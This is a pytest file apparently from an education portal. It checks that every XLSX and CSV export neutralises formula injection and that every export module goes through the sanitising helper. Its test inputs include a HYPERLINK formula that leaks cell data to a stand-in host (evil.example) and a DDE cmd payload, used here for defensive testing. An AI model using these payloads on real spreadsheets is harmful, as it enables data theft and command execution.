"""Formula injection (issue #19 item 5): every XLSX/CSV export neutralises text starting with = + - @.

First the helper (opora.safe_export); then an inventory — every module that builds a workbook or writes CSV goes
through it (a new export that forgets fails here); then a walk through the product's exports with hostile text put
into every field a user can type, checking every cell of every sheet.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook

from opora.safe_export import csv_cell, csv_rows, is_formula_like, neutralise_frame, workbook_bytes

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+7 (391) 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


# --------------------------------------------------------------------------------------------------- the helper


def test_formula_like_text_is_recognised_and_nothing_else() -> None:
    assert all(is_formula_like(t) for t in [*HOSTILE, "\tx", "\rx"])
    assert not any(is_formula_like(v) for v in ["СОШ № 2", "", " =1", 5, -5.5, None, True])


def test_csv_fields_get_an_apostrophe_and_numbers_stay_numbers() -> None:
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-x") == "'-x" and csv_cell("ok") == "ok"
    assert csv_cell(-5) == -5  # a number written by the export, not text someone typed
    assert csv_rows([["@a", 1], ["b", "+c"]]) == [["'@a", 1], ["b", "'+c"]]


def test_a_workbook_keeps_the_text_but_never_a_formula() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([*HOSTILE, 5, -5, "обычный текст"])
    assert ws["A1"].data_type == "f"  # openpyxl alone would write the school's «name» as a formula
    data = workbook_bytes(wb)
    assert b"<f>" not in _sheet_xml(data)
    cells = next(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))  # type: ignore[union-attr]
    assert list(cells) == [
        *HOSTILE,
        5,
        -5,
        "обычный текст",
    ]  # exactly what was typed: it re-imports unchanged
    _assert_safe_xlsx(data, at_least=len(HOSTILE))


def test_a_frame_written_as_csv_is_neutralised_in_its_text_columns() -> None:
    frame = pl.DataFrame({"school_id": ["=1+1", "MNS-1", "@x"], "value": [-1.5, 2.0, 3.0]})
    out = neutralise_frame(frame)
    assert out["school_id"].to_list() == ["'=1+1", "MNS-1", "'@x"] and out["value"].to_list() == [
        -1.5,
        2.0,
        3.0,
    ]


# --------------------------------------------------------------------------------------------------- inventory

#: Modules that write CSV without the helper, and why that is right.
NOT_EXPORTS = {
    "portal/api/services.py": "rows_to_csv turns API JSON into an import file: an apostrophe would change values",
    "portal/identification/services.py": "CSV only to hash the data (data_version)",
    "portal/results/services.py": "the regional reference set stored as canonical CSV for the model",
    "portal/synthetic/services.py": "synthetic student files for benchmarks (generated codes and numbers)",
    "portal/demo/region.py": "synthetic demo files fed to the import",
    "opora/synthetic.py": "synthetic data files (generated codes and numbers)",
    "opora/synthetic_region.py": "synthetic data files (generated codes and numbers)",
    "opora/safe_export.py": "the helper itself",
}


def _sources() -> list[Path]:
    files = [*ROOT.joinpath("portal").rglob("*.py"), *ROOT.joinpath("opora").rglob("*.py")]
    return [p for p in files if "/tests/" not in str(p) and "/migrations/" not in str(p)]


def test_every_module_that_builds_a_workbook_saves_it_through_the_helper() -> None:
    builders = [p for p in _sources() if re.search(r"\bWorkbook\(\)", p.read_text(encoding="utf-8"))]
    # identification, monitoring, staff, programs, region, audit, api, templates, cli
    assert len(builders) >= 9
    missing = [
        str(p.relative_to(ROOT))
        for p in builders
        if "workbook_bytes(" not in (text := p.read_text(encoding="utf-8"))
        or re.search(r"\b(wb|book|workbook)\.save\(", text)
    ]
    assert missing == [], "these modules save a workbook without opora.safe_export.workbook_bytes"


def test_every_module_that_writes_csv_neutralises_it_or_says_why_not() -> None:
    writers = [
        p
        for p in _sources()
        if re.search(r"csv\.writer\(|\.write_csv\(|def write_csv", p.read_text(encoding="utf-8"))
    ]
    missing = [
        str(p.relative_to(ROOT))
        for p in writers
        if str(p.relative_to(ROOT)) not in NOT_EXPORTS
        and not re.search(r"csv_rows\(|neutralise_frame\(", p.read_text(encoding="utf-8"))
    ]
    assert missing == []


# --------------------------------------------------------------------------------------------------- the walk


def _sheet_xml(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def _assert_safe_xlsx(data: bytes, *, at_least: int = 1) -> None:
    """No formula anywhere; every formula-like text is a quote-prefixed string; ``at_least`` of them present."""
    assert b"<f>" not in _sheet_xml(data) and b"<f " not in _sheet_xml(data)
    book = load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                    seen += 1
    assert seen >= at_least, "the hostile text did not reach the export: the test would prove nothing"


def _assert_safe_csv(data: bytes, *, at_least: int = 1) -> None:
    text = data.decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text), delimiter=";") for f in row]
    assert not [f for f in fields if is_formula_like(f)]
    assert sum(f.startswith("'") and is_formula_like(f[1:]) for f in fields) >= at_least


@pytest.fixture
def hostile(world: dict[str, Any]) -> dict[str, Any]:
    """The world, with hostile text wherever a user can type: names of schools and municipalities."""
    from portal.schools.models import Municipality, School

    School.objects.filter(pk=world["S1"].pk).update(short_name=HOSTILE[0], name=HOSTILE[0])
    Municipality.objects.filter(pk=world["M"].pk).update(name=HOSTILE[3])
    world["S1"].refresh_from_db()
    world["M"].refresh_from_db()
    return world


def test_the_identification_export(hostile: dict[str, Any]) -> None:
    from portal.identification.exports import run_xlsx
    from portal.identification.models import IdentificationRun, SchoolOutcome

    run = IdentificationRun.objects.create(
        municipality=hostile["M"], year=2023, config={"note": HOSTILE[1]}, fit_description=HOSTILE[2]
    )
    outcome = SchoolOutcome.objects.create(run=run, school=hostile["S1"], categories=["low_results"])
    rows = [{"o": outcome, "has_official": False, "official": [], "differs": False}]
    _assert_safe_xlsx(run_xlsx(run, rows), at_least=2)


def test_the_monitoring_template_and_dashboard(hostile: dict[str, Any]) -> None:
    from portal.monitoring import derive, excel, services
    from portal.monitoring.models import IndicatorSet, IndicatorValue

    services.sync_builtin_sets(by=None)
    period = services.open_period(hostile["M"], IndicatorSet.objects.get(code="order_2023_41"), 2024, by=None)
    services.set_target_schools(period, shnor=[hostile["S1"].pk], at_risk=[], by=None)
    indicator = period.indicator_set.indicators.first()
    assert indicator is not None
    IndicatorValue.objects.create(
        period=period, school=hostile["S1"], indicator=indicator, text=HOSTILE[2], links=[HOSTILE[3]]
    )
    _assert_safe_xlsx(excel.template(period), at_least=3)  # school name, link, comment
    # The dashboard holds derived numbers and the catalogue's wording: no typed text starts a cell, none is a formula.
    _assert_safe_xlsx(excel.export_dashboard(period, derive.rows(derive.load(period))), at_least=0)


def test_the_staff_template(hostile: dict[str, Any]) -> None:
    from portal.staff import excel
    from portal.staff.models import Teacher

    Teacher.objects.create(school=hostile["S1"], name=HOSTILE[3], subjects=HOSTILE[2])
    _assert_safe_xlsx(excel.template(hostile["S1"]), at_least=2)


def test_the_risk_profile_template(db: Any) -> None:
    from portal.programs import risk, services
    from portal.programs.models import RiskFactor

    services.sync_library(by=None)
    RiskFactor.objects.filter(pk=RiskFactor.objects.first().pk).update(title=HOSTILE[0])  # type: ignore[union-attr]
    _assert_safe_xlsx(risk.import_template(), at_least=1)


def test_the_region_comparison(hostile: dict[str, Any]) -> None:
    from portal.overview import region_dashboard

    region = hostile["R"]
    _assert_safe_xlsx(region_dashboard.comparison_xlsx(region, region_dashboard.comparison(region)))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_audit_log_export(
    client: Any, hostile: dict[str, Any], user_with_role: Callable[..., Any], fmt: str
) -> None:
    from django.urls import reverse

    from portal.schools.services import update_school

    coordinator = user_with_role("coordinator", "M")
    update_school(hostile["S2"], {"short_name": HOSTILE[1], "address": HOSTILE[2]}, by=coordinator)
    client.force_login(coordinator)
    response = client.get(reverse("audit:export", args=[hostile["M"].pk, fmt]))
    assert response.status_code == 200
    check = _assert_safe_csv if fmt == "csv" else _assert_safe_xlsx
    check(response.content, at_least=2)


def test_the_api_staff_workbook(db: Any) -> None:
    from portal.api.services import staff_to_xlsx

    _assert_safe_xlsx(staff_to_xlsx([{"name": HOSTILE[0], "subjects": HOSTILE[3]}], []), at_least=2)


def test_the_downloadable_import_templates_hold_no_formula() -> None:
    from opora.readers import templates

    for build in (
        templates.results_template_xlsx,
        templates.context_template_xlsx,
        templates.risk_template_xlsx,
    ):
        data = build()
        assert b"<f>" not in _sheet_xml(data)
